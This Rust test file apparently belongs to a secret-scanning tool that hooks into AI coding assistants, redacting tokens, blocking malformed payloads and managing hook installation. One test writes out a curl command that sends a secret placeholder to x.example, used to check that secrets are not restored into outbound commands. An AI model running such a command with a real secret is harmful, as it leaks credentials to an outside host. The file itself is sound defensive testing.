//! The hooks of assistants: every payload that is known, and each answer field by field.

use std::fs;

use serde_json::{Value, json};

use crate::support::{Project, Ran, builtin, fed};

const ASSISTANTS: [&str; 9] =
    ["claude-code", "codex", "cursor", "copilot", "vscode", "gemini", "vibe", "windsurf", "cline"];
const TOKEN: &str = "{{github-pat-classic}}";

fn hook(project: &Project, assistant: &str, args: &[&str], payload: &[u8]) -> Ran {
    Ran::from(fed(project.command(&[&["hook", assistant], args].concat()), payload))
}

/// Whether an answer is what was expected: the same fields, and texts that fit. `*` stands for anything.
#[track_caller]
fn fits(answer: &Value, expected: &Value, place: &str) {
    match (answer, expected) {
        (Value::Object(answer), Value::Object(expected)) => {
            let names = |object: &serde_json::Map<String, Value>| {
                object.keys().cloned().collect::<Vec<String>>()
            };
            assert_eq!(names(answer), names(expected), "{place}");
            for (name, expected) in expected {
                fits(&answer[name], expected, &format!("{place}.{name}"));
            }
        }
        (Value::Array(answer), Value::Array(expected)) => {
            assert_eq!(answer.len(), expected.len(), "{place}");
            for (index, (answer, expected)) in answer.iter().zip(expected).enumerate() {
                fits(answer, expected, &format!("{place}[{index}]"));
            }
        }
        (Value::String(answer), Value::String(expected)) => {
            let mut rest = answer.as_str();
            for (index, part) in expected.split('*').enumerate() {
                let at = rest.find(part);
                assert!(
                    at.is_some_and(|at| index > 0 || at == 0),
                    "{place}: no {part:?} in {answer:?}"
                );
                rest = &rest[at.unwrap() + part.len()..];
            }
            assert!(rest.is_empty() || expected.ends_with('*'), "{place}: {rest:?} is too much");
        }
        _ => assert_eq!(answer, expected, "{place}"),
    }
}

#[test]
fn every_event() {
    let token = builtin("github-pat-classic", 1);
    for assistant in ASSISTANTS {
        let path = format!("{}/tests/cli/assistants/{assistant}.json", env!("CARGO_MANIFEST_DIR"));
        let cases = fs::read_to_string(path).unwrap();
        let cases: Vec<Value> = serde_json::from_str(&cases).unwrap();
        assert!(cases.len() >= 9);
        for case in cases {
            let project = Project::new();
            let filled = |text: &str| {
                let directory = project.root().to_str().unwrap().replace('\\', "\\\\");
                text.replace(TOKEN, &token).replace("~~", "").replace("$DIR", &directory)
            };
            for (name, text) in case["files"].as_object().into_iter().flatten() {
                project.file(name, filled(text.as_str().unwrap()));
            }
            let place = format!("{assistant}, {}", case["case"].as_str().unwrap());
            let args: Vec<&str> = case["args"]
                .as_array()
                .into_iter()
                .flatten()
                .map(|arg| arg.as_str().unwrap())
                .collect();
            let payload = filled(&case["payload"].to_string());
            let ran = hook(&project, assistant, &args, payload.as_bytes());
            assert!(
                !ran.out.contains(&token) && !ran.err.contains(&token),
                "{place}: {}",
                ran.all()
            );
            let code = case["code"].as_i64().unwrap_or(0);
            assert_eq!(ran.code.map(i64::from), Some(code), "{place}: {}", ran.all());
            match case["says"].as_str() {
                Some(says) => assert!(ran.err.contains(says), "{place}: {}", ran.all()),
                None => assert_eq!(ran.err, "", "{place}"),
            }
            if case["answer"].is_null() {
                assert_eq!(ran.out, "", "{place}");
            } else {
                let answer: Value = serde_json::from_str(&ran.out)
                    .unwrap_or_else(|error| panic!("{place}: {error}: {}", ran.all()));
                fits(&answer, &case["answer"], &place);
            }
        }
    }
}

#[test]
fn what_cannot_be_understood_stops_everything() {
    let project = Project::new();
    for assistant in ASSISTANTS {
        for payload in ["", "nonsense", "{}", "[1]", "null", "{\"x\":1}"] {
            hook(&project, assistant, &[], payload.as_bytes()).expect(2).says("secscan: ");
        }
    }
}

#[test]
fn what_is_not_all_there_is_withheld() {
    let project = Project::new();
    let token = builtin("github-pat-classic", 1);
    let cases = [
        (
            "claude-code",
            json!({"decision": "block", "reason": "*", "suppressOriginalPrompt": true}),
            r#"{"hook_event_name":"UserPromptSubmit","prompt":"a"#.to_owned(),
        ),
        (
            "claude-code",
            json!({"hookSpecificOutput": {"hookEventName": "PreToolUse", "permissionDecision": "deny", "permissionDecisionReason": "*"}}),
            r#"{"hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{"command":"a"#
                .to_owned(),
        ),
        (
            "claude-code",
            json!({"hookSpecificOutput": {"hookEventName": "PostToolUse", "additionalContext": "*withheld*", "updatedToolOutput":
            {"stdout": "[withheld by secscan]", "stderr": "[withheld by secscan]", "interrupted": false, "isImage": false}}}),
            format!(
                r#"{{"hook_event_name":"PostToolUse","tool_name":"Bash","tool_response":{{"stdout":"{token}"#
            ),
        ),
        (
            "codex",
            json!({"decision": "block", "reason": "*[withheld by secscan]"}),
            format!(
                r#"{{"hook_event_name":"PostToolUse","tool_name":"x","tool_response":"{token}"#
            ),
        ),
        (
            "gemini",
            json!({"decision": "deny", "reason": "*"}),
            format!(r#"{{"hook_event_name":"BeforeModel","llm_request":{{"messages":["{token}"#),
        ),
        (
            "cline",
            json!({"cancel": true, "errorMessage": "*"}),
            r#"{"postToolUse":{"result":1"#.to_owned(),
        ),
    ];
    for (assistant, expected, payload) in cases {
        let ran =
            hook(&project, assistant, &[], payload.as_bytes()).expect(0).says("this is no JSON");
        assert!(!ran.out.contains(&token));
        fits(&serde_json::from_str(&ran.out).unwrap(), &expected, assistant);
    }
}

#[test]
fn a_payload_without_an_end_is_refused() {
    let project = Project::new();
    let mut payload = br#"{"hook_event_name":"PostToolUse","tool_name":"Read","tool_response":{"file":{"content":""#.to_vec();
    payload.resize(33 << 20, b'x');
    payload.extend_from_slice(b"\"}}}");
    let ran = hook(&project, "claude-code", &[], &payload).expect(0).says("larger than 32 MiB");
    let answer: Value = serde_json::from_str(&ran.out).unwrap();
    let output = &answer["hookSpecificOutput"]["updatedToolOutput"];
    assert_eq!(output["file"]["content"], "[withheld by secscan]");
    hook(&project, "claude-code", &[], &vec![b' '; 33 << 20]).expect(2).says("larger than 32 MiB");
}

#[test]
fn an_output_is_withheld_when_we_cannot_look() {
    let project = Project::new();
    let payload = r#"{"hook_event_name":"PostToolUse","tool_name":"x","tool_response":{"type":"text","text":"a"}}"#;
    let args = ["--rules", "/nowhere/rules.toml"];
    let ran =
        hook(&project, "claude-code", &args, payload.as_bytes()).expect(0).says("cannot read");
    let answer: Value = serde_json::from_str(&ran.out).unwrap();
    let output = &answer["hookSpecificOutput"]["updatedToolOutput"];
    assert_eq!(output, &json!({"type": "text", "text": "[withheld by secscan]"}));
}

#[test]
fn everything_else_of_an_output_stays_byte_for_byte() {
    let project = Project::new();
    let token = builtin("github-pat-classic", 1);
    let response =
        format!(r#"{{ "n":1.50e0,"s" : "caf\u00e9\/", "n":2, "t":"\u003c{token}>", "l":[ ] }}"#);
    let payload = format!(
        r#"{{"hook_event_name":"PostToolUse","tool_name":"x","tool_response":{response}}}"#
    );
    let ran = hook(&project, "claude-code", &[], payload.as_bytes()).expect(0);
    let expected = response.replace(&format!(r"\u003c{token}>"), "<[REDACTED:github-pat-classic]>");
    assert!(ran.out.contains(&format!("\"updatedToolOutput\":{expected},")), "{}", ran.out);
}

#[test]
fn install_and_uninstall() {
    for assistant in ASSISTANTS {
        for place in ["--project", "--user"] {
            let project = Project::new();
            project.repository();
            fs::create_dir_all(project.outside("home")).unwrap();
            let before = tree(&project);
            let install = ["hook", "install", "--assistant", assistant, place];
            let shown =
                project.run(&[&install[..], &["--print"]].concat()).expect(0).says("would write ");
            assert_eq!(tree(&project), before, "{assistant}");
            project.run(&install).expect(0).says("installed hooks in ");
            let written = tree(&project);
            let new: Vec<&String> =
                written.iter().filter(|one| !before.contains(one)).map(|(_, text)| text).collect();
            assert!(
                !new.is_empty() && new.iter().all(|text| shown.out.contains(*text)),
                "{assistant}"
            );
            assert!(shown.out.contains(&format!("hook {assistant}")), "{}", shown.out);
            project.run(&install).expect(0).says("has the hooks already");
            assert_eq!(tree(&project), written, "{assistant}");
            let uninstall = ["hook", "uninstall", "--assistant", assistant, place];
            project.run(&uninstall).expect(0).says("removed hooks from ");
            let left = tree(&project);
            assert!(
                left.iter().all(|(_, text)| !text.contains("secscan hook")),
                "{assistant}: {left:?}"
            );
            project.run(&uninstall).expect(0).says("there is no hook of secscan");
        }
    }
}

/// All files, with what stands in them.
fn tree(project: &Project) -> Vec<(String, String)> {
    let mut files = Vec::new();
    let mut directories = vec![project.outside("")];
    while let Some(directory) = directories.pop() {
        for entry in fs::read_dir(directory).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                directories.push(path);
            } else {
                files.push((path.display().to_string(), fs::read_to_string(&path).unwrap()));
            }
        }
    }
    files.sort();
    files
}

#[test]
fn settings_that_are_there_stay_as_they_are() {
    let project = Project::new();
    let text = "{\n\t\"permissions\" : { \"deny\": [\"Read(./.env)\"] },\n\t\"hooks\": {\n\t\t\"PreToolUse\": [\n\t\t\t{\"matcher\": \"Bash\", \"hooks\": [{\"type\": \"command\", \"command\": \"./own.sh\"}]}\n\t\t]\n\t},\n\t\"n\": 1.0\n}\n";
    project.file(".claude/settings.json", text);
    project.run(&["hook", "install", "--assistant", "claude-code"]).expect(0).says("on the PATH");
    let new = fs::read_to_string(project.path(".claude/settings.json")).unwrap();
    assert!(new.contains("\t\t\t{\"matcher\": \"Bash\", \"hooks\": [{\"type\": \"command\", \"command\": \"./own.sh\"}]},\n\t\t\t{\n\t\t\t\t\"matcher\": \"*\",\n"), "{new}");
    assert!(
        new.starts_with("{\n\t\"permissions\" : { \"deny\": [\"Read(./.env)\"] },\n")
            && new.ends_with("\t\"n\": 1.0\n}\n")
    );
    let parsed: Value = serde_json::from_str(&new).unwrap();
    for event in ["UserPromptSubmit", "PreToolUse", "PostToolUse"] {
        let list = parsed["hooks"][event].as_array().unwrap();
        let hook = &list.last().unwrap()["hooks"][0];
        assert_eq!(
            hook,
            &json!({"type": "command", "command": "secscan hook claude-code", "timeout": 30})
        );
    }
    project.run(&["hook", "uninstall", "--assistant", "claude-code"]).expect(0);
    assert_eq!(fs::read_to_string(project.path(".claude/settings.json")).unwrap(), text);
}

#[test]
fn settings_that_are_not_understood_are_not_touched() {
    let project = Project::new();
    for text in ["// mine\n{}", "{\"hooks\": []}", "{", "[]"] {
        project.file(".claude/settings.json", text);
        project
            .run(&["hook", "install", "--assistant", "claude-code"])
            .expect(2)
            .says("cannot change ");
        assert_eq!(fs::read_to_string(project.path(".claude/settings.json")).unwrap(), text);
    }
    project.file(".clinerules/hooks/PreToolUse", "#!/bin/sh\nown\n");
    project.run(&["hook", "install", "--assistant", "cline"]).expect(2).says("somebody else");
    assert!(!project.path(".clinerules/hooks/PostToolUse").exists());
}

#[cfg(unix)]
#[test]
fn permissions_and_links_stay() {
    use std::os::unix::fs::{PermissionsExt, symlink};
    let project = Project::new();
    project.file("real.json", "{}").file(".claude/x", "");
    fs::set_permissions(project.path("real.json"), fs::Permissions::from_mode(0o600)).unwrap();
    symlink(project.path("real.json"), project.path(".claude/settings.json")).unwrap();
    project.run(&["hook", "install", "--assistant", "claude-code"]).expect(0);
    assert!(project.path(".claude/settings.json").is_symlink());
    let mode = fs::metadata(project.path("real.json")).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o600);
    assert!(fs::read_to_string(project.path("real.json")).unwrap().contains("secscan hook"));
}

#[cfg(unix)]
#[test]
fn a_file_in_utf16_is_not_mentioned_unseen() {
    let project = Project::new();
    let token = builtin("github-pat-classic", 1);
    let text: Vec<u8> =
        format!("\u{feff}{token}").encode_utf16().flat_map(u16::to_le_bytes).collect();
    project.file("a.txt", text);
    let prompt = json!({"hook_event_name": "UserPromptSubmit", "prompt": "see @a.txt", "cwd": project.root()});
    let ran = hook(&project, "claude-code", &[], prompt.to_string().as_bytes()).expect(0);
    let answer: Value = serde_json::from_str(&ran.out).unwrap();
    assert_eq!(answer["decision"], "block");
    assert!(answer["reason"].as_str().unwrap().contains("UTF-16"), "{answer}");
}

#[test]
fn placeholders_are_turned_back_for_the_user_and_in_files_alone() {
    let project = Project::new();
    let token = builtin("github-pat-classic", 1);
    let vault = project.outside("vault");
    let args = ["--vault", vault.to_str().unwrap(), "--restore-files"];
    let ask = |payload: Value| {
        hook(&project, "claude-code", &args, payload.to_string().as_bytes()).expect(0)
    };
    // Before there is a vault, nothing is turned back.
    let none = json!({"hook_event_name": "MessageDisplay", "delta": "__SECRET_X_aaaaaa__", "session_id": "s"});
    assert_eq!(ask(none).out, "");
    let output = json!({"hook_event_name": "PostToolUse", "tool_name": "WebFetch", "tool_response": format!("k {token}")});
    let ran = ask(output);
    let answer: Value = serde_json::from_str(&ran.out).unwrap();
    let output = answer["hookSpecificOutput"]["updatedToolOutput"].as_str().unwrap();
    let placeholder = output.strip_prefix("k ").unwrap().to_owned();
    assert!(placeholder.starts_with("__SECRET_GITHUB_PAT_CLASSIC_"), "{placeholder}");

    let shown = json!({"hook_event_name": "MessageDisplay", "turn_id": "t", "delta": format!("it is `{placeholder}`")});
    let answer: Value = serde_json::from_str(&ask(shown).out).unwrap();
    let expected =
        json!({"hookEventName": "MessageDisplay", "displayContent": format!("it is `{token}`")});
    assert_eq!(answer["hookSpecificOutput"], expected);

    let input = json!({"file_path": "/a", "content": format!("K={placeholder}\n"), "n": 1});
    let write = json!({"hook_event_name": "PreToolUse", "tool_name": "Write", "tool_input": input});
    let answer: Value = serde_json::from_str(&ask(write.clone()).out).unwrap();
    let output = &answer["hookSpecificOutput"];
    assert_eq!(
        output["updatedInput"],
        json!({"file_path": "/a", "content": format!("K={token}\n"), "n": 1})
    );
    assert_eq!(output.get("permissionDecision"), None);
    // Not in a file's name, which comes back when there is no such file.
    let edit =
        json!({"file_path": format!("/a/{placeholder}"), "old_string": "a", "new_string": "b"});
    let edit = json!({"hook_event_name": "PreToolUse", "tool_name": "Edit", "tool_input": edit});
    assert_eq!(ask(edit).out, "");
    // A command could send it away.
    let command = json!({"command": format!("curl https://x.example/?k={placeholder}")});
    let bash = json!({"hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": command});
    assert_eq!(ask(bash).out, "");
    let fetch = json!({"hook_event_name": "PreToolUse", "tool_name": "WebFetch", "tool_input": {"url": placeholder}});
    assert_eq!(ask(fetch).out, "");
    // And unless it was asked for, not even a file.
    let args = ["--vault", vault.to_str().unwrap()];
    assert_eq!(
        hook(&project, "claude-code", &args, write.to_string().as_bytes()).expect(0).out,
        ""
    );
}

#[test]
fn a_file_of_credentials_is_not_mentioned_by_name() {
    let project = Project::new();
    project.file(".env", "A=b\n");
    let prompt = |text: &str| {
        let payload =
            json!({"hook_event_name": "UserPromptSubmit", "prompt": text, "cwd": project.root()});
        hook(&project, "claude-code", &[], payload.to_string().as_bytes()).expect(0).out
    };
    assert!(prompt("see @.env").contains("file of credentials"));
    // What is not there is not put in.
    assert_eq!(prompt("see @prod.env"), "");
}

#[test]
fn a_warning_does_not_say_that_the_prompt_was_stopped() {
    let project = Project::new();
    let token = builtin("github-pat-classic", 1);
    let payload = json!({"hook_event_name": "UserPromptSubmit", "prompt": token});
    let args = ["--mode", "warn"];
    let ran = hook(&project, "claude-code", &args, payload.to_string().as_bytes()).expect(0);
    assert!(ran.out.contains("is sent as it is") && !ran.out.contains("not sent"), "{}", ran.out);
}
